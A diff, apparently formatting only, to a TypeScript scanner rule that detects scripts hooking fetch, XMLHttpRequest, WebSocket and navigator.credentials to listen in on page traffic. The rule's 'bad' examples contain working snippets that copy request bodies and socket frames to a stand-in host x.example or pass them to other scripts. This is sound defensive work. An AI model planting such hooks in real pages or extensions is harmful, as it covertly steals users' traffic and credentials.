@@ -1,4 +1,14 @@
-import { apiPath, callsOf, constant, listOf, Op, propertyOf, resolve, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsOf,
+  constant,
+  listOf,
+  Op,
+  propertyOf,
+  resolve,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { originPaths } from './origins.ts';
@@ -6,7 +16,8 @@ import { runsInPages } from './places.ts';
 import { sendingsOf } from './sendings.ts';
 import { callsWithin, few, functionOf } from './usage.ts';
 
-const TARGETS = /^(fetch|XMLHttpRequest|WebSocket|XMLHttpRequest\.prototype\.(open|send|setRequestHeader)|navigator\.sendBeacon|HTMLFormElement\.prototype\.submit|WebSocket\.prototype\.send|ethereum|ethereum\.request|solana|crypto\.subtle\.\w+|navigator\.credentials\.(get|create|\*)|open|JSON\.parse|localStorage\.setItem|Storage\.prototype\.setItem)$/;
+const TARGETS =
+  /^(fetch|XMLHttpRequest|WebSocket|XMLHttpRequest\.prototype\.(open|send|setRequestHeader)|navigator\.sendBeacon|HTMLFormElement\.prototype\.submit|WebSocket\.prototype\.send|ethereum|ethereum\.request|solana|crypto\.subtle\.\w+|navigator\.credentials\.(get|create|\*)|open|JSON\.parse|localStorage\.setItem|Storage\.prototype\.setItem)$/;
 
 const TELLS = /^((parent\.|top\.)?postMessage|(document\.)?dispatchEvent)$/;
 
@@ -28,28 +39,61 @@ export const patchesPageFunctions = defineRule({
       if (fn === undefined) continue;
       // Blockers replace functions too; what tells a listener is that it hands on what it hears.
       const inside = (pos: number): boolean => pos >= fn.start && pos < fn.end;
-      const out = sendingsOf(script).find((sending) => inside(sending.pos) && sending.kind === 'network' && /^(https?|wss?):\/\/[^*]/.test(sending.to));
+      const out = sendingsOf(script).find(
+        (sending) => inside(sending.pos) && sending.kind === 'network' && /^(https?|wss?):\/\/[^*]/.test(sending.to),
+      );
       const told = !own && callsWithin(script, body, 2).some((call) => TELLS.test(apiPath(script, call.callee) ?? ''));
-      if (out !== undefined) yield hit(value, { severity: 'high', confidence: 'high', evidence: target, message: `What passes through ${target} is sent to ${out.to}.` });
-      else if (told) yield hit(value, { evidence: target, confidence: 'low', message: `What passes through ${target} is handed to other scripts.` });
+      if (out !== undefined)
+        yield hit(value, {
+          severity: 'high',
+          confidence: 'high',
+          evidence: target,
+          message: `What passes through ${target} is sent to ${out.to}.`,
+        });
+      else if (told)
+        yield hit(value, {
+          evidence: target,
+          confidence: 'low',
+          message: `What passes through ${target} is handed to other scripts.`,
+        });
       else if (!quiet) yield hit(value, { severity: 'low', confidence: 'low', evidence: target });
     }
   }),
   examples: {
     bad: [
-      contentExample('const real = window.fetch; window.fetch = function (...args) { real("https://x.example/l", { method: "POST", body: JSON.stringify(args) }); const b = new Image(); b.src = "https://x.example/i?d=" + args[0]; return real.apply(this, args); };'),
-      contentExample('const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example/x", body); return send.call(this, body); };'),
-      contentExample('const real = window.fetch; window.fetch = async function (u, o) { const r = await real(u, o); window.postMessage({ kind: "net", url: u, body: await r.clone().text() }, "*"); return r; };'),
-      contentExample('const real = window.fetch; const tell = (o) => window.postMessage({ type: "panel", o }, "*"); window.fetch = async (...a) => { const r = await real(...a); const copy = r.clone(); (async () => { tell({ asked: a[1].body, answer: await copy.text() }); })(); return r; };'),
-      contentExample('const Real = window.WebSocket; const mirror = new Real("wss://x.example/m"); window.WebSocket = class extends Real { send(frame) { mirror.send(frame); return super.send(frame); } };'),
-      contentExample('(function (box) { ["get", "create"].forEach((n) => { const real = box[n].bind(box); box[n] = async (o) => { const c = await real(o); document.dispatchEvent(new CustomEvent("seen", { detail: c.id })); return c; }; }); })(navigator.credentials);'),
+      contentExample(
+        'const real = window.fetch; window.fetch = function (...args) { real("https://x.example/l", { method: "POST", body: JSON.stringify(args) }); const b = new Image(); b.src = "https://x.example/i?d=" + args[0]; return real.apply(this, args); };',
+      ),
+      contentExample(
+        'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example/x", body); return send.call(this, body); };',
+      ),
+      contentExample(
+        'const real = window.fetch; window.fetch = async function (u, o) { const r = await real(u, o); window.postMessage({ kind: "net", url: u, body: await r.clone().text() }, "*"); return r; };',
+      ),
+      contentExample(
+        'const real = window.fetch; const tell = (o) => window.postMessage({ type: "panel", o }, "*"); window.fetch = async (...a) => { const r = await real(...a); const copy = r.clone(); (async () => { tell({ asked: a[1].body, answer: await copy.text() }); })(); return r; };',
+      ),
+      contentExample(
+        'const Real = window.WebSocket; const mirror = new Real("wss://x.example/m"); window.WebSocket = class extends Real { send(frame) { mirror.send(frame); return super.send(frame); } };',
+      ),
+      contentExample(
+        '(function (box) { ["get", "create"].forEach((n) => { const real = box[n].bind(box); box[n] = async (o) => { const c = await real(o); document.dispatchEvent(new CustomEvent("seen", { detail: c.id })); return c; }; }); })(navigator.credentials);',
+      ),
     ],
     good: [
-      contentExample('const Real = window.WebSocket; window.WebSocket = class extends Real { send(frame) { console.debug(frame); return super.send(frame); } };'),
-      contentExample('(function (box) { ["get", "create"].forEach((n) => { box[n] = () => Promise.reject(new Error("off")); }); })(navigator.credentials);'),
-      contentExample('const ethereum = { request: (a) => new Promise((done) => { window.postMessage({ to: "mine", a }, location.origin); wait(done); }) }; if (!window.ethereum) Object.defineProperty(window, "ethereum", { value: ethereum });'),
+      contentExample(
+        'const Real = window.WebSocket; window.WebSocket = class extends Real { send(frame) { console.debug(frame); return super.send(frame); } };',
+      ),
+      contentExample(
+        '(function (box) { ["get", "create"].forEach((n) => { box[n] = () => Promise.reject(new Error("off")); }); })(navigator.credentials);',
+      ),
+      contentExample(
+        'const ethereum = { request: (a) => new Promise((done) => { window.postMessage({ to: "mine", a }, location.origin); wait(done); }) }; if (!window.ethereum) Object.defineProperty(window, "ethereum", { value: ethereum });',
+      ),
       contentExample('if (!window.fetch) load("polyfill"); const f = fetch; f("https://api.example.com/");'),
-      contentExample('const api = {}; api.fetch = function () { navigator.sendBeacon("https://x.example"); }; class X { open() { window.postMessage("x"); } }'),
+      contentExample(
+        'const api = {}; api.fetch = function () { navigator.sendBeacon("https://x.example"); }; class X { open() { window.postMessage("x"); } }',
+      ),
     ],
   },
 });
@@ -80,35 +124,81 @@ function patches(script: ScriptFacts): Patch[] {
     }
     const body = functionOf(script, by);
     // Keys for signing in are switched off by some: only listening is worth a word.
-    if (body !== undefined) out.push({ value: value === 0 ? by : value, target, body, quiet: target.startsWith('navigator.credentials'), own: false });
+    if (body !== undefined)
+      out.push({
+        value: value === 0 ? by : value,
+        target,
+        body,
+        quiet: target.startsWith('navigator.credentials'),
+        own: false,
+      });
     // `new Proxy(fetch, { apply })`, as blockers do too, and objects with functions of their own.
     const found = resolve(script, by);
-    const made = script.op[found] === Op.create && apiPath(script, script.a[found] as number) === 'Proxy' ? (listOf(script, script.b[found] as number)[1] ?? 0) : script.op[found] === Op.object ? found : 0;
+    const made =
+      script.op[found] === Op.create && apiPath(script, script.a[found] as number) === 'Proxy'
+        ? (listOf(script, script.b[found] as number)[1] ?? 0)
+        : script.op[found] === Op.object
+          ? found
+          : 0;
     for (const name of ['apply', 'get', 'construct', 'request', 'send', 'value']) {
       const inner = made === 0 ? 0 : propertyOf(script, made, name);
       const fn = functionOf(script, inner);
-      if (fn !== undefined) out.push({ value: value === 0 ? by : value, target, body: fn, quiet: true, own: script.op[made] === Op.object && made === found && /^(ethereum|solana)$/.test(target) && name !== 'get' });
+      if (fn !== undefined)
+        out.push({
+          value: value === 0 ? by : value,
+          target,
+          body: fn,
+          quiet: true,
+          own: script.op[made] === Op.object && made === found && /^(ethereum|solana)$/.test(target) && name !== 'get',
+        });
       else if (name === 'value' && inner !== 0) take(value, target, inner);
     }
   };
-  for (const write of writesOf(script, 'fetch', 'XMLHttpRequest', 'WebSocket', 'open', 'send', 'setRequestHeader', 'sendBeacon', 'submit', 'request', 'setItem', 'ethereum', 'solana', 'parse')) {
+  for (const write of writesOf(
+    script,
+    'fetch',
+    'XMLHttpRequest',
+    'WebSocket',
+    'open',
+    'send',
+    'setRequestHeader',
+    'sendBeacon',
+    'submit',
+    'request',
+    'setItem',
+    'ethereum',
+    'solana',
+    'parse',
+  )) {
     const object = apiPath(script, write.object);
     if (object === undefined) continue;
-    take(write.value, /^(window|self|globalThis|unsafeWindow|this)$/.test(object) ? write.property : `${object}.${write.property}`, write.value);
+    take(
+      write.value,
+      /^(window|self|globalThis|unsafeWindow|this)$/.test(object) ? write.property : `${object}.${write.property}`,
+      write.value,
+    );
   }
   if (script.strings.includes('credentials')) {
     // `for (const name of ['get', 'create']) navigator.credentials[name] = …`
     for (let at = 0; at < Math.min(script.writes.length, 40_000); at += 4) {
       const name = script.writes[at + 1] as number;
       if (name >= 0 && !/^(get|create)$/.test(script.strings[name] as string)) continue;
-      const object = [...originPaths(script, script.writes[at] as number)].find((path) => path === 'navigator.credentials');
-      if (object !== undefined) take(script.writes[at + 2] as number, `${object}.${name < 0 ? '*' : (script.strings[name] as string)}`, script.writes[at + 2] as number);
+      const object = [...originPaths(script, script.writes[at] as number)].find(
+        (path) => path === 'navigator.credentials',
+      );
+      if (object !== undefined)
+        take(
+          script.writes[at + 2] as number,
+          `${object}.${name < 0 ? '*' : (script.strings[name] as string)}`,
+          script.writes[at + 2] as number,
+        );
     }
   }
   for (const call of callsOf(script, 'Object.defineProperty')) {
     const object = apiPath(script, call.args[0] ?? 0);
     const name = constant(script, call.args[1] ?? 0);
-    if (object !== undefined && name !== undefined) take(call.value, /^(window|self|globalThis)$/.test(object) ? name : `${object}.${name}`, call.args[2] ?? 0);
+    if (object !== undefined && name !== undefined)
+      take(call.value, /^(window|self|globalThis)$/.test(object) ? name : `${object}.${name}`, call.args[2] ?? 0);
   }
   return out;
 }
